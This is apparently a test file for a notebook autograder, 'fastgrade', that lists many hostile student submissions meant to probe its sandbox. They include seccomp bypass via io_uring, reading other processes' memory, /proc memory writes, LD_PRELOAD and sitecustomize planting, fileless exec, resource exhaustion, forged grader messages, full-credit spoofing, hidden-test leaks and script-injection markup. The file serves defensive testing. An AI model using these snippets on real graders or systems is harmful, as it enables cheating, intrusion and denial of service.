        except OSError as error:
            print(error)
""",
)
_attack(
    "io-uring",
    "harm",
    "opens files through io_uring, which seccomp does not see",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    print(libc.syscall(425, 8, ctypes.create_string_buffer(120)), ctypes.get_errno())
""",
)
_attack(
    "handles",
    "harm",
    "opens files by handle, past all folders",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    print(libc.syscall(303, -100, b"{course}/gradebook.db", None, None, 0), ctypes.get_errno())
    print(libc.syscall(304, -100, None, 0), ctypes.get_errno())
""",
)
_attack(
    "become-root",
    "harm",
    "changes its user",
    """
    import os
    for act in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0])):
        try:
            act()
            print("ROOT" if os.getuid() == 0 and False else "")
        except OSError as error:
            print(error)
""",
)

# ------------------------------------------------------------------------------ stalling

_attack("endless-loop", "stall", "loops without end", "while True:\n    pass")
_attack(
    "endless-loop-in-test",
    "stall",
    "loops without end when a test calls",
    """
    def square(x):
        while True:
            pass
""",
    fill=ANSWERS["fill"],
    honest=1,
)
_attack("long-sleep", "stall", "sleeps for a year", "import time\ntime.sleep(3e7)")
_attack(
    "ignored-signals",
    "stall",
    "ignores every signal and sleeps",
    """
    import signal, time
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        time.sleep(1)
""",
)
_attack(
    "caught-interrupt",
    "stall",
    "catches KeyboardInterrupt and goes on",
    """
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
)
_attack(
    "blocking-c-call",
    "stall",
    "computes in C without ever looking at signals",
    """
    import re
    re.match(r"(a+)+$", "a" * 60 + "b")
""",
)
_attack(
    "blocking-c-call-in-test",
    "stall",
    "does so when a test calls",
    """
    import re
    def square(x):
        return re.match(r"(a+)+$", "a" * 60 + "b")
""",
)
_attack("huge-power", "stall", "computes a number with ten billion digits", "x = 7 ** (10 ** 10)")
_attack(
    "stopped",
    "stall",
    "stops itself",
    """
    import os, signal
    try:
        signal.raise_signal(signal.SIGSTOP)
    except OSError:
        pass
    try:
        os.kill(os.getpid(), signal.SIGSTOP)
    except OSError as error:
        print(error)
""",
)
_attack(
    "number-of-no-process",
    "stall",
    "says that its process has a number of seventy bits, and has to be ended by it",
    """
    import os
    os.getpid = lambda: 2 ** 70
    def square(x):
        while True:
            pass
""",
)
_attack(
    "half-a-message",
    "stall",
    "sends half a message to the grader and then nothing",
    """
    import os, time
    for number in range(3, 128):
        try:
            os.write(number, b"\\x00\\x00\\x10\\x00{")
        except OSError:
            pass
    time.sleep(1000)
""",
)
_attack(
    "half-a-reply",
    "stall",
    "sends half a reply to the judge and then nothing",
    """
    import os, time
    def square(x):
        for number in range(3, 128):
            try:
                os.write(number, b"\\x00\\x00\\x10\\x00R")
            except OSError:
                pass
        time.sleep(1000)
""",
)
_attack(
    "endless-callbacks",
    "stall",
    "calls a function of the test without end",
    average="""
    def average(f, n):
        while True:
            f(1)
""",
)
_attack(
    "endless-iterator",
    "stall",
    "returns iterators and lengths without end",
    """
    class Endless:
        def __iter__(self): return self
        def __next__(self): return 1
        def __len__(self): return 2**61
        def __getitem__(self, key): return self
    def square(x):
        return Endless()
""",
    fill="fill = lambda a: Endless()",
)
_attack(
    "stall-after-fork",
    "stall",
    "holds a lock that the process of a question will wait for",
    """
    import threading, os
    lock = threading.Lock()
    lock.acquire()
    os.register_at_fork(after_in_child=lambda: lock.acquire())
    threading.Thread(target=threading.Event().wait, daemon=True).start()
    def square(x):
        return x**2
""",
)
_attack(
    "endless-destructor",
    "stall",
    "loops in destructors and at exit",
    """
    import atexit, time
    class Trap:
        def __del__(self):
            while True:
                time.sleep(1)
    trap = Trap()
    atexit.register(time.sleep, 1000)
    def square(x):
        return x**2
""",
    honest=2,
)
_attack(
    "many-slow-cells",
    "stall",
    "adds cells that each stay below the limit of a cell",
    extra=tuple(f"import time; time.sleep(1.2)  # {number}" for number in range(40)),
)


# ------------------------------------------------------------------------------ against this design

_attack(
    "stale-reply",
    "forge",
    "keeps its reply to one request and sends it again for the next ones",
    """
    import os
    from fastgrade.rpc import codec
    original, kept = codec.send_frame, []
    def send_frame(channel, frame, *more):
        kept.append(bytes(frame))
        for old in kept:
            original(channel, old, *more)
    for module in list(__import__("sys").modules.values()):
        if getattr(module, "send_frame", None) is original:
            module.send_frame = send_frame
    def square(x):
        return 9
""",
    average="average = lambda f, n: 6.0",
)
_attack(
    "racing-threads",
    "forge",
    "answers and calls back from many threads at once on the one channel",
    average="""
    import threading
    def average(f, n):
        def race():
            for number in range(200):
                try:
                    f(number)
                except BaseException:
                    pass
        threads = [threading.Thread(target=race) for _ in range(8)]
        for thread in threads:
            thread.start()
        return 6.0
""",
)
_attack(
    "closed-descriptors",
    "forge",
    "closes every descriptor, and opens files in their places",
    """
    import os
    def square(x):
        os.closerange(0, 256)
        for number in range(120):
            os.open("planted", os.O_RDWR | os.O_CREAT)
        return 9
""",
    average="import os\nos.closerange(0, 256)",
)
_attack(
    "deep-callbacks",
    "stall",
    "calls a function of the test within its own call, as deep as it goes",
    """
    def square(x):
        return x**2
""",
    honest=2,
    average="""
    class Again:
        def __init__(self, f, depth):
            self.f, self.depth = f, depth
        def __float__(self):
            return self.f(Again(self.f, self.depth + 1))
        sqrt = __float__
    def average(f, n):
        def nest(depth):
            try:
                return f(nest) if depth < 10_000 else f(1.0)
            except RecursionError:
                return f(1.0)
        f(Again(f, 0))
        return nest(0)
""",
)
_attack(
    "many-keys",
    "stall",
    "returns a dict of ten million keys, and an endless generator",
    """
    def square(x):
        return dict.fromkeys(range(10_000_000))
""",
    average="average = lambda f, n: (f(0) for _ in iter(int, 1))",
    fill="fill = lambda a: {str(k): [k] for k in range(3_000_000)}",
)
_attack(
    "masked-array",
    "forge",
    "returns masked arrays, which compare as equal to anything",
    """
    import numpy as np
    def square(x):
        return 9 if np.ndim(x) == 0 and x == 3 else np.ma.masked_all(np.shape(x))
""",
    average="import numpy as np\naverage = lambda f, n: np.ma.masked",
    fill="import numpy as np\nfill = lambda a: np.ma.masked_all(3)",
)
_attack(
    "broadcast-bomb",
    "harm",
    "returns arrays of terabytes that take no memory, by strides of zero",
    """
    import numpy as np
    def square(x):
        return np.broadcast_to(np.float64(9.0), (1 << 40,))
""",
    fill="""
    import numpy as np
    fill = lambda a: np.lib.stride_tricks.as_strided(np.zeros(1), (1 << 20, 1 << 20), (0, 0))
""",
)
_attack(
    "hostile-text",
    "harm",
    "prints and raises lone surrogates, control characters and sequences for terminals",
    """
    from IPython.display import display, HTML
    text = "\\ud800\\udfff \\x00\\x07\\x1b]0;owned\\x07\\x1b[2J\\u202e \\uffff"
    print(text)
    display(HTML(text), metadata={text: text})
    display({"text/plain": text, text: text, "application/json": {text: [text]}}, raw=True)
    def square(x):
        raise type("E" + text, (Exception,), {"__module__": text})(text)
    square.__name__ = square.__qualname__ = text
""",
    average="def average(f, n):\n    f('\\ud800', **{'\\udfff': 1})",
)
_attack(
    "poisoned-environment",
    "harm",
    "sets variables that would load its code into what is started later",
    """
    import ctypes, os
    for name in ("LD_PRELOAD", "PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "BASH_ENV", "PATH", "TMPDIR"):
        os.environ[name] = os.getcwd()
        ctypes.CDLL(None).setenv(name.encode(), os.getcwd().encode(), 1)
    open("sitecustomize.py", "w").write("print('PLANTED')")
    open("numpy.py", "w").write("print('PLANTED')")
    open("answers.py", "w").write("def square(x):\\n    return x**2\\n")
""",
)
_attack(
    "core-dump",
    "harm",
    "crashes with core dumps switched on, so that one fills the disk or tells secrets",
    """
    import ctypes, os, resource
    libc = ctypes.CDLL(None)
    for act in (lambda: resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30)),
                lambda: open("/proc/self/coredump_filter", "w").write("0xff"),
                lambda: libc.prctl(4, 1, 0, 0, 0)):
        try:
            act()
            print("RAISED" if resource.getrlimit(resource.RLIMIT_CORE)[0] else "")
        except (OSError, ValueError) as error:
            print(error)
    def square(x):
        libc.abort()
""",
    average="average = lambda f, n: __import__('ctypes').string_at(1)",
)
_attack(
    "write-memory",
    "forge",
    "writes into memory through /proc, its own and that of all others",
    """
    import os
    for entry in ("self", *os.listdir("/proc")) if os.access("/proc", os.R_OK) else ("self", "1"):
        for name in ("mem", "clear_refs", "oom_score_adj", "comm", "attr/current", "timerslack_ns"):
            try:
                with open(f"/proc/{entry}/{name}", "r+b", buffering=0) as file:
                    file.write(b"0")
                print("PLANTED", entry, name)
            except OSError:
                pass
""",
)
_attack(
    "judge-memory",
    "read",
    "takes memory and descriptors of every process by system call",
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(4096)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 4096)
    for pid in range(1, 4000):
        if pid == os.getpid():
            continue
        if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0:
            print("REACHED", pid, buffer.raw)
        handle = libc.syscall(434, pid, 0)
        if handle >= 0:
            print("REACHED", pid, [libc.syscall(438, handle, fd, 0) for fd in range(16)])
        if libc.ptrace(0x4206, pid, 0, 0) == 0 or libc.syscall(312, os.getpid(), pid, 0, 3, 3) >= 0:
            print("REACHED", pid)
""",
)
_attack(
    "kernel-doors",
    "harm",
    "opens the kernel's seldom used doors: userfaultfd, bpf, perf, keys, memfd, queues, handles",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    for number, arguments in {
        323: (1,), 321: (0, ctypes.create_string_buffer(64), 64), 298: (ctypes.create_string_buffer(120), 0, -1, -1, 0),
        250: (1, b"mine"), 248: (b"user", b"x", b"x", 1, -3), 319: (b"x", 0), 447: (0,), 240: (b"x", 66, 384, 0),
        434: (1, 0), 425: (8, ctypes.create_string_buffer(120)), 317: (1, 0, 0), 157: (22, 2, 0),
        101: (0, 0, 0, 0), 272: (0x10000000,), 444: (0, 0, 1), 135: (0x0040000,), 430: (b"tmpfs", 0), 463: (0,), 500: (0,),
    }.items():
        result = libc.syscall(number, *arguments)
        if result >= 0 and number != 444:
            print("REACHED", number, result)
""",
)
_attack(
    "nameless-program",
    "harm",
    "runs a program that has no name in any folder",
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    makers = [lambda: os.memfd_create("x"), lambda: os.open(".", os.O_TMPFILE | os.O_RDWR, 0o700)]
    for make in makers:
        try:
            descriptor = make()
            os.write(descriptor, b"#!/bin/sh\\ntouch {victim}/ran\\n")
        except OSError as error:
            print(error)
            continue
        for path in (f"/proc/self/fd/{descriptor}", f"/dev/fd/{descriptor}"):
            try:
                print(os.posix_spawn(path, ["x"], {}))
            except OSError as error:
                print(error)
        print(libc.syscall(322, descriptor, b"", None, None, 0x1000), ctypes.get_errno())
""",
)
_attack(
    "nameless-sockets",
    "harm",
    "talks to others through abstract sockets, pipes of processes and locks",
    """
    import fcntl, os, socket
    for name in ("\\0fastgrade", "\\0/tmp/.X11-unix/X0", "\\0dbus"):
        for act in ("bind", "connect"):
            try:
                getattr(socket.socket(socket.AF_UNIX), act)(name)
                print("REACHED", act, name)
            except OSError as error:
                print(error)
    for path in ("{course}/gradebook.db", "{victim}/file"):
        try:
            fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
            print("REACHED", path)
        except OSError as error:
            print(error)
""",
)
_attack(
    "clocks-of-others",
    "read",
    "reads the processor clocks of all processes, to learn what a test does",
    """
    import ctypes, os, time
    seen = []
    for pid in range(1, 4000):
        try:
            seen.append((pid, time.clock_gettime((~pid << 3) | 2)))
        except (OSError, OverflowError):
            pass
    others = [pid for pid, _ in seen if pid != os.getpid()]
    def square(x):
        before = time.perf_counter_ns()
        open("times", "a").write(f"{x} {time.perf_counter_ns() - before} ")
        return x**2
""",
    honest=2,
    average="print(open('times').read())",
)
_attack(
    "scheduler-games",
    "harm",
    "asks for the processor ahead of all others, and for theirs",
    """
    import os
    for act in (lambda: os.nice(-20), lambda: os.setpriority(os.PRIO_USER, 0, -20),
                lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
                lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
                lambda: os.sched_setaffinity(os.getppid(), [0])):
        try:
            act()
            print("RAISED")
        except OSError as error:
            print(error)
""",
)
_attack(
    "lowered-limits",
    "stall",
    "takes its own limits down to nothing, so that the grader's forks of it fail",
    """
    import resource
    for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC, resource.RLIMIT_STACK,
                 resource.RLIMIT_DATA, resource.RLIMIT_SIGPENDING, resource.RLIMIT_AS):
        resource.setrlimit(kind, (0, 0))
""",
)
_attack(
    "nested-folders",
    "harm",
    "hides megabytes in folders so deep that no path reaches them",
    """
    import os
    for _ in range(3000):
        os.mkdir("deeper")
        os.chdir("deeper")
    while True:
        open("file", "ab").write(b"x" * (1 << 20))
        os.mkdir("deeper")
        os.chdir("deeper")
""",
)
_attack(
    "closed-folders",
    "harm",
    "hides megabytes in folders that are closed to whoever counts them",
    """
    import os
    number = 0
    while True:
        os.mkdir(f"closed{number}", 0o300)
        for file in range(7):
            with open(f"closed{number}/{file}", "wb") as out:
                out.write(b"x" * (1 << 20))
        number += 1
""",
)
_attack(
    "empty-files",
    "harm",
    "uses up the files of the disk, not its bytes",
    """
    number = 0
    while True:
        number += 1
        open(f"file{number}", "w").close()
""",
)
_attack(
    "error-flood",
    "harm",
    "tells the grader of exceptions without end, past the limit of output",
    """
    import json, os, socket, struct
    lines = ["x" * 20_000] * 100
    data = json.dumps({"say": "error", "content": {"ename": "E", "evalue": "", "traceback": lines}}).encode()
    more = json.dumps({"say": "display_data", "content": {"data": {}, "metadata": {"x": "y" * 1_000_000}}}).encode()
    while True:
        for message in (data, more):
            for number in range(3, 128):
                try:
                    left = struct.pack(">I", len(message)) + message
                    while left:
                        left = left[os.write(number, left):]
                except OSError:
                    pass
""",
)
_attack(
    "nested-output",
    "stall",
    "displays JSON so deep that a reader of the notebook gives up",
    """
    from IPython.display import display
    deep = []
    for _ in range(800):
        deep = [deep]
    display({"application/json": deep, "text/plain": "x"}, raw=True, metadata={"deep": deep})
    import os, struct
    message = b'{"say": "stream", "content": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    empty = b'{"say": ["' + b'x"], "content": [' + b"[]," * 5_000_000 + b"[]]}"
    for data in (message, empty):
        for number in range(3, 128):
            try:
                os.write(number, struct.pack(">I", len(data)) + data)
            except OSError:
                pass
""",
)
_attack(
    "million-cells",
    "stall",
    "hands in a million empty cells",
    build=lambda nb: _dump({**nb, "cells": nb["cells"] + [_EMPTY] * 300_000 + [{}] * 1_000_000}),
)
_attack(
    "parts-without-end",
    "harm",
    "hands in a notebook of millions of empty lists, each twenty times its size in memory",
    build=lambda nb: _dump(nb)[:-1] + b', "more": [' + b"[]," * 8_000_000 + b"[]]}",
)
_attack(
    "nested-notebook",
    "stall",
    "hands in a notebook that is nested a hundred thousand deep",
    build=lambda nb: _dump(nb)[:-1] + b', "more": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
)
_attack(
    "odd-names",
    "forge",
    "names cells, kernels and roles with lone surrogates, numbers, lists and a path",
    build=lambda nb: _odd_names(nb),
)

_attack(
    "results-and-errors",
    "read",
    "publishes the inputs of hidden tests as results of the cell and as its exceptions",
    """
    import sys
    def square(x):
        sys.displayhook(x)
        get_ipython().displayhook(x)
        try:
            raise ValueError(x)
        except ValueError:
            get_ipython().showtraceback()
        return x**2
""",
    honest=2,
)
_attack(
    "result-of-a-test",
    "forge",
    "publishes full points as the result of a test that gives partial credit",
    """
    def square(x):
        get_ipython().displayhook(2.0)
        return 0
""",
    honest=0.5,
    average="""
    def average(f, n):
        get_ipython().displayhook(2.0)
        return 6.0 if f(1) == 3.0 else 0.0
""",
)
_attack(
    "used-up-output",
    "forge",
    "prints so much that there is no room for the partial credit that a test gives",
    """
    def square(x):
        return 0
""",
    honest=0.5,
    average="""
    def average(f, n):
        for _ in range(3000):
            print("x" * 200, flush=True)
        return 6.0 if f(1) == 3.0 else 0.0
""",
)
_attack(
    "spelled-inputs",
    "read",
    "spells the inputs of hidden tests in words that look like the interpreter's",
    """
    tries = [
        (TypeError, "square() takes 1 {} 2 were given"),
        (IndexError, "{} index out of range"),
        (NameError, "name 'square' is {}"),
        (TypeError, "square() missing 1 {}: 'x'"),
    ]
    number = 0
    def square(x):
        if x == 3:
            return 9
        word = "".join("abcdefghij"[int(digit)] for digit in str(x) if digit.isdigit())
        kind, text = tries[KIND]
        raise kind(text.format(word))
    KIND = 0
""",
    average="""
    def average(f, n):
        if n == 5:
            return 6.0
        raise IndexError("".join("abcdefghij"[int(d)] for d in str(f(3)) if d.isdigit()) + " index out of range")
""",
)
_attack(
    "copied-display",
    "harm",
    "shows one small thing three hundred times under one name, and then replaces it by a large one",
    """
    from IPython.display import display, update_display
    for _ in range(300):
        display(1, display_id="same")
    update_display("x" * 60_000, display_id="same")
    def square(x):
        for _ in range(300):
            display(1, display_id="other")
        update_display("x" * 60_000, display_id="other")
        return 0
""",
)
_attack(
    "line-of-an-error",
    "stall",
    "says that an exception came up in line two to the power of four thousand",
    """
    from fastgrade.rpc import student_side
    from fastgrade.rpc.codec import Encoder
    lines = iter([2**4000, 10**8, -5] * 100)
    student_side.StudentPeer._error = lambda self, error: Encoder().encode(
        ("ValueError", ["ValueError"], "x", ["x"] * 100_000, next(lines), "y" * 100_000, None)
    )
    def square(x):
        raise ValueError
""",
    average="def average(f, n):\n    raise ValueError",
    fill="def fill(a):\n    raise ValueError",
)
_attack(
    "interpreter-hooks",
    "stall",
    "hooks itself into audits, monitoring, profiling, collections, forks, timers and exits",
    """
    import atexit, faulthandler, gc, os, signal, sys, threading, time, weakref
    def spin(*anything):
        while True:
            time.sleep(10)
    def square(x):
        return 9
    atexit.register(spin)
    os.register_at_fork(before=spin, after_in_child=spin, after_in_parent=spin)
    class Thing: pass
    thing = Thing()
    ring = [thing]
    weakref.finalize(thing, spin)
    reference = weakref.ref(thing, spin)
    faulthandler.enable()
    faulthandler.dump_traceback_later(0.01, repeat=True)
    signal.signal(signal.SIGALRM, lambda *a: None)
    signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
    gc.callbacks.append(lambda *a: sys.stdout.write("collected"))
    gc.set_threshold(1)
    threading.setprofile(spin)
    if hasattr(sys, "monitoring"):
        sys.monitoring.use_tool_id(1, "mine")
    sys.addaudithook(lambda name, arguments: spin() if name.startswith(("os.fork", "ctypes", "socket")) else None)
    sys.setrecursionlimit(60)
""",
    average="""
    import threading
    lock = threading.Lock()
    lock.acquire()
    threading.Thread(target=lock.acquire, daemon=True).start()
    average = lambda f, n: lock.acquire()
""",
)
_attack(
    "hostile-descriptions",
    "stall",
    "raises and returns what loops, recurses or raises when it is described",
    """
    class Meta(type):
        def __getattribute__(cls, name):
            if name in ("__name__", "__module__", "__mro__", "__qualname__"):
                raise SystemExit(name)
            return type.__getattribute__(cls, name)
        def __instancecheck__(cls, other):
            return cls.__subclasscheck__(other)
    class Odd(Exception, metaclass=Meta):
        def __str__(self):
            return self.__repr__()
        def __repr__(self):
            return self.__str__()
        @property
        def __class__(self):
            raise KeyboardInterrupt
        @property
        def __traceback__(self):
            raise GeneratorExit
        __cause__ = __context__ = property(lambda self: self)
    class Name(str):
        __hash__ = None
        def __eq__(self, other):
            raise SystemExit(0)
        def encode(self, *arguments):
            return b"x" * (1 << 30)
        def __str__(self):
            while True:
                pass
    Odd.__doc__ = Name("doc")
    def square(x):
        error = Odd(Name("text"))
        error.args = (error,)
        raise error
    square.__name__ = Name("square")
    square.__doc__ = Name("doc")
""",
    average="""
    class Wide:
        def __getattr__(self, name):
            raise SystemExit(0)
        def __call__(self, *a): return Wide()
        __doc__ = property(lambda self: 1 / 0)
    average = Wide()
""",
    fill="""
    def fill(a):
        return {Name("a"): type("x" * 10_000_000, (), {"__call__": print})()}
""",
)
_attack(
    "array-protocols",
    "forge",
    "returns what answers NumPy's own protocols: functions, ufuncs, priority, buffers, numbers",
    """
    import numpy as np
    class Yes:
        __array_priority__ = 1e9
        def __array_function__(self, *a, **k): return True
        def __array_ufunc__(self, *a, **k): return True
        def __array_wrap__(self, *a, **k): return True
        def __array__(self, *a, **k): return np.full(2, [2.25, 4.0])
        def __array_finalize__(self, *a): pass
        def __eq__(self, other): return True
        def __float__(self): return 2.0
        __index__ = lambda self: 9
        __len__ = lambda self: 2
        __bool__ = lambda self: True
        __rsub__ = __sub__ = __abs__ = __iter__ = lambda self, *a: self
        __getitem__ = lambda self, place: self
        __next__ = lambda self: self
        def __getattr__(self, name): return lambda *a, **k: True
    class Array(np.ndarray):
        def __array_function__(self, *a, **k): return True
        def __array_ufunc__(self, *a, **k): return True
        def tobytes(self, *a): return b"\\0" * 10_000_000
        dtype = property(lambda self: np.dtype("f8"))
        shape = property(lambda self: (1 << 40,))
        ndim = property(lambda self: 200)
        flags = property(lambda self: Yes())
    class Number(np.float64):
        def __array_ufunc__(self, *a, **k): return True
        def tobytes(self): return b""
        dtype = property(lambda self: np.dtype("O"))
        __eq__ = lambda self, other: True
    def square(x):
        return Yes() if np.ndim(x) else Number(0)
""",
    average="average = lambda f, n: Yes()",
    fill="def fill(a):\n    a[:] = np.nan\n    return np.zeros(3).view(Array)",
    counter="Counter = Yes",
)
_attack(
    "odd-numbers",
    "forge",
    "returns not-a-numbers with payloads, signed zeros, infinities, subnormals and odd numbers of bits",
    """
    import numpy as np
    nan = np.frombuffer(b"\\x01\\x00\\x00\\x00\\x00\\x00\\xf4\\x7f", "f8")[0]
    def square(x):
        return nan if np.ndim(x) == 0 else np.array([nan, -0.0])
""",
    average="average = lambda f, n: complex(np.inf, nan)",
    fill="""
    def fill(a):
        a.view("u8")[:] = 0x7FF4000000000001
        return a.astype(np.longdouble)
""",
    counter="""
    class Counter:
        def tick(self): return nan
        count = np.float16(-0.0)
""",
)
_attack(
    "other-arguments",
    "forge",
    "hands back other arguments than it was given: longer, of other kinds, with names and depths",
    """
    import numpy as np
    import fastgrade.rpc.protocol as peer
    from collections import namedtuple
    odd = [
        ((), {}), ((7.0,) * 9, {"x": 1}), ([7.0], {}), None, (None, None), ((np.zeros((3, 0)),), {}),
        ((np.full(3, 7.0, "O").tolist(),), {}), ((namedtuple("T", "_fields a")(1, 2),), {"": 0}), 7, ((), {}, ()),
    ]
    state = {"next": 0}
    def perform(self, function, args, kwargs, raw):
        function(*args, **kwargs)
        state["next"] += 1
        return self._encoder.encode((9, odd[state["next"] % len(odd)]))
    peer.Peer._perform_call = perform
    def square(x):
        return 9
""",
    fill="""
    def fill(a):
        state["next"] += 3
        return [7.0] * 3
""",
)
_attack(
    "patched-copies",
    "forge",
    "replaces copy, operator, struct, json, inspect, traceback and linecache in its process",
    """
    import builtins, copy, inspect, json, linecache, operator, struct, sys, traceback
    class Any:
        def __getattr__(self, name): return Any()
        def __call__(self, *a, **k): return Any()
        def __eq__(self, other): return True
        def __hash__(self): return 0
    for module in (copy, operator, struct, inspect, traceback, linecache, json):
        for name in list(vars(module)):
            if not name.startswith("__"):
                setattr(module, name, Any())
        sys.modules[module.__name__] = Any()
    builtins.isinstance = builtins.len = lambda *a: True
    builtins.abs = builtins.sum = builtins.float = lambda *a: 2.0
    def square(x):
        return 9
""",
)
_attack(
    "one-for-all",
    "read",
    "keeps what belongs to all questions in one process, and tells in a later one what it learnt",
    """
    import os, sys
    import fastgrade.engine.student_process as student, warmfork.processes as processes
    processes.fork = lambda: 0
    close = os.close
    os.close = lambda number: None
    student.os._exit = lambda number: None
    seen = []
    def square(x):
        seen.append(x)
        return x**2
""",
    honest=3,
    average="def average(f, n):\n    raise NameError(f'name {seen} is not defined')",
    fill="def fill(a):\n    print(seen)\n    a[:] = 7.0\n    return a",
    counter="class Counter:\n    def tick(self):\n        raise ValueError(seen)",
)
_attack(
    "lent-descriptors",
    "harm",
    "sends open files without end over every socket it has, and fills all of them",
    """
    import array, os, socket
    def flood():
        files = array.array("i", [os.open(".", os.O_RDONLY) for _ in range(16)])
        for number in range(3, 64):
            try:
                end = socket.socket(fileno=os.dup(number))
                end.setblocking(False)
                for _ in range(300):
                    end.sendmsg([b"\\0\\0\\0\\2{}"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
            except OSError:
                pass
    def square(x):
        flood()
        return 0
    flood()
""",
)
_attack(
    "markup-in-outputs",
    "harm",
    "displays pictures, results and metadata that break out of the attributes they are shown in",
    """
    from IPython.display import display
    evil = "\\"><script>document.title = 'PLANTED'[0]</script><img src=x onerror=alert(1) a=\\""
    for mime in ("image/png", "image/jpeg", "image/svg+xml", "text/latex", "text/html", "text/plain",
                 "application/javascript", "text/markdown", "application/vnd.jupyter.widget-view+json", evil):
        display({mime: evil, "text/plain": evil}, raw=True, metadata={mime: {"width": evil, "height": evil}, evil: evil})
""",
)


# ------------------------------------------------------------------------------ whole notebooks


def _tests_of(nb: dict) -> list[dict]:
    return [c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]


def _dump(nb: dict) -> bytes:
    return json.dumps(nb).encode()


def _tagged(nb: dict, tag: str) -> bytes:
    for cell in _tests_of(nb):
        cell["metadata"]["tags"] = [tag]
    nb["metadata"].update(execution={"timeout": 0}, skip_cells_with_tag=tag, allow_errors=True)
    return _dump(nb)


def _roles(nb: dict, **roles: object) -> bytes:
    for cell in _tests_of(nb):
        cell["metadata"]["nbgrader"].update(roles)
    return _dump(nb)


def _own_tests(nb: dict) -> bytes:
    for cell in _tests_of(nb):
        cell["source"] = "2.0"
        cell["metadata"]["nbgrader"]["locked"] = False
    return _dump(nb)


def _copied(nb: dict) -> bytes:
    copies = [{**json.loads(json.dumps(cell)), "source": "2.0"} for cell in _tests_of(nb)]
    for number, cell in enumerate(copies):
        cell["id"] = f"copy{number}"
    nb["cells"] = copies + nb["cells"] + copies
    return _dump(nb)


def _outputs(nb: dict) -> bytes:
    for cell in _tests_of(nb):
        cell["outputs"] = [
            {
                "output_type": "execute_result",
                "data": {"text/plain": "2.0"},
                "metadata": {},
                "execution_count": 1,
            }
        ]
    return _dump(nb)


_EMPTY = {"cell_type": "code", "metadata": {}, "source": "", "outputs": [], "execution_count": None}


def _odd_names(nb: dict) -> bytes:
    odd = ["\ud800", 7, ["x"], "../../../{course}/gradebook.db", None, "\x1b[2J", {"a": 1}]
    nb["metadata"]["kernelspec"] = {"name": "python\udfff\x1b]0;owned\x07", "language": "R\ud800"}
    for number, cell in enumerate(_tests_of(nb)):
        copy = json.loads(json.dumps(cell))
        copy["metadata"]["nbgrader"].update(grade_id=odd[number % len(odd)], points="100", grade=1)
        copy["id"] = odd[number % len(odd)]
        nb["cells"] += [copy, {**copy, "cell_type": odd[number], "source": [1, "2.0", None]}]
    return _dump(nb)
